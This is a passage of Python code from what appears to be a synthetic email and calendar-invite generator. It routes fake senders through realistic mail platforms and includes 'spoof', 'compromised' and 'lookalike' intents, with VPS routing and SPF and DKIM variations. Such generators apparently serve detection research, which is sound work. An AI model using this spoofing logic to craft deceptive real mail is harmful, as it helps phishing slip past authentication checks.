def free_domain(rng, client, lang):
    if client == "google":
        return "gmail.com"
    if client in ("outlook", "teams"):
        return rng.choice(MS_FREE.get(lang, ["outlook.com", "hotmail.com"]))
    if client == "icloud":
        return rng.choice(APPLE_FREE)
    if client == "yahoo":
        return rng.choice(YAHOO_FREE.get(lang, ["yahoo.com"]))
    if client == "zimbra":
        return rng.choice(["free.fr", "zimbra-mail.example", "laposte.net"]) if lang == "fr" else rng.choice(["mailbox.zimbra-hosting.example", "webmail-%s.example" % lang])
    if client in ("sogo", "nextcloud"):
        return rng.choice(["posteo-like.example", "mailbox-provider.example", "kolab-hosting.example"])
    # desktop clients: any free-mail address of the language
    return rng.choice(FREEMAIL.get(lang, FREEMAIL["en"]))


def platform_for_domain(m, dom, intent):
    """Pick a transport recipe for the From domain given the client."""
    rng = m.rng
    c = m.client
    if intent == "spoof":
        return ("vps", {})
    if c == "google":
        return ("google_cal", {"workspace": dom not in ("gmail.com", "googlemail.com")})
    if c in ("outlook", "teams"):
        if dom in sum(MS_FREE.values(), []):
            return ("microsoft", {"consumer": True})
        if c == "outlook" and intent in ("corp", "compromised", "internal", "smallbiz", "lookalike") and rng.random() < 0.15:
            m.sub = "desktop"   # Outlook desktop with an IMAP/SMTP mailbox at a hoster
            return ("selfhosted", {"sign": rng.random() < 0.7})
        if c == "outlook" and intent in ("corp", "compromised", "internal") and rng.random() < 0.25:
            m.sub = m.sub or "exchange"
            return ("exchange", {})
        return ("microsoft", {"sign_custom": rng.random() < (0.85 if intent != "lookalike" else 0.5)})
    if c == "icloud":
        return ("icloud", {})
    if c == "yahoo":
        return ("yahoo", {})
    if c == "zoom":
        return ("zoom", {})
    free_doms = set(sum(MS_FREE.values(), [])) | set(APPLE_FREE) | set(sum(FREEMAIL.values(), [])) | set(T.FREEMAIL_HOSTS)
    if c in ("booking", "custom") and (dom in free_doms or dom.startswith("yahoo.") or dom == "ymail.com"):
        # a hand-rolled sender with a free-mail From: authenticated submission to that provider
        if dom in ("gmail.com", "googlemail.com"):
            return ("gmail", {"via": "smtp"})
        if dom in sum(MS_FREE.values(), []):
            return ("microsoft", {"consumer": True})
        if dom in APPLE_FREE:
            return ("icloud", {})
        if dom.startswith("yahoo.") or dom == "ymail.com" or dom == "aol.com":
            return ("yahoo", {})
        return ("freemail", {})
    if c in ("booking", "custom"):
        if intent in ("service", "lookalike") or rng.random() < 0.4:
            return ("esp", {})
        if intent == "smallbiz":
            return ("selfhosted", {"sign": rng.random() < 0.4})
        return ("selfhosted", {"software": rng.choice(["postfix", "exim", "local"])})
    # applecal / thunderbird / nextcloud / zimbra / sogo
    if dom == "gmail.com":
        return ("gmail", {"via": "smtp"})
    if dom in sum(MS_FREE.values(), []):
        return ("microsoft", {"consumer": True})
    if dom in APPLE_FREE:
        return ("icloud", {})
    if dom.startswith("yahoo.") or dom == "ymail.com":
        return ("yahoo", {})
    if dom in T.FREEMAIL_HOSTS or dom in sum(FREEMAIL.values(), []):
        return ("freemail", {})
    if c in ("applecal", "thunderbird") and rng.random() < 0.3:
        return rng.choice([("microsoft", {"sign_custom": True}), ("gmail", {"via": "smtp", "workspace": True})])
    if intent == "smallbiz":
        return ("selfhosted", {"sign": rng.random() < 0.4, "spf_res": "softfail" if rng.random() < 0.1 else "pass"})
    return ("selfhosted", {"software": rng.choice(["postfix", "postfix", "exim"]), "sign": rng.random() < 0.85,
                           "spf_res": "softfail" if (intent in ("corp", "internal") and rng.random() < 0.05) else "pass"})


def route(m, intent, person, platform=None):
    """Set From, organizer and transport recipe."""
    m.intent = intent
    m.person = person
    m.frm = person
    if m.organizer is None:
        m.organizer = person
    m.platform = platform or platform_for_domain(m, person.domain, intent)
    if m.client == "zoom" and m.platform[0] == "zoom":
        m.sub = m.sub or ("service" if m.rng.random() < 0.65 else "host")
        if m.sub == "service":
            m.reply_to = person
            m.frm = Person(person.name, "no-reply@zoom.us", person.lang)
        else:
            m.platform = ("gmail", {}) if person.domain == "gmail.com" else ("selfhosted", {})
    if m.client == "nextcloud":
        host = getattr(m, "nc_host", None) or ("cloud." + T.org_domain(person.domain) if "." in person.domain else "cloud.example.org")
        if person.domain.endswith(".example") and "provider" in person.domain:
            host = "nc." + person.domain
        m.nc_host = host
        m.reply_to = person
        m.frm = Person("%s via Nextcloud" % person.name if m.rng.random() < 0.7 else person.name,
                       m.rng.choice(["noreply@", "nextcloud@", "no-reply@"]) + host, person.lang)
        if m.platform[0] != "vps":
            m.platform = ("selfhosted", {"mta_host": "mail." + T.org_domain(person.domain)})
    return m


def person_at(rng, lang, domain, display=None, local=None):
    disp, f, l, fr, lr = random_name(rng, lang if lang in NAMES else "en")
    lp = local or local_part(rng, fr, lr, rng.choice(["f.l", "f.l", "finit.l", "fl", "f"]) if False else rng.choice(["f.l", "f.l", "finit.l", "fl"]))
    p = Person(display if display is not None else disp, "%s@%s" % (lp, domain), lang, f, l)
    return p


def random_local(rng, brand=None):
    if brand and all(ord(c) < 128 for c in brand) and rng.random() < 0.5:
        return slug(brand).replace(".", rng.choice(["", ".", "_"]))[:16] + str(rng.randint(1, 9999))
    return rng.choice([rand_token(rng, rng.randint(6, 12), LOWER + string.digits),
                       rand_token(rng, 5, LOWER) + "." + rand_token(rng, 5, LOWER) + str(rng.randint(10, 99)),
                       rng.choice(["info", "support", "service", "team", "news", "promo", "office", "admin"]) + str(rng.randint(1, 999))])
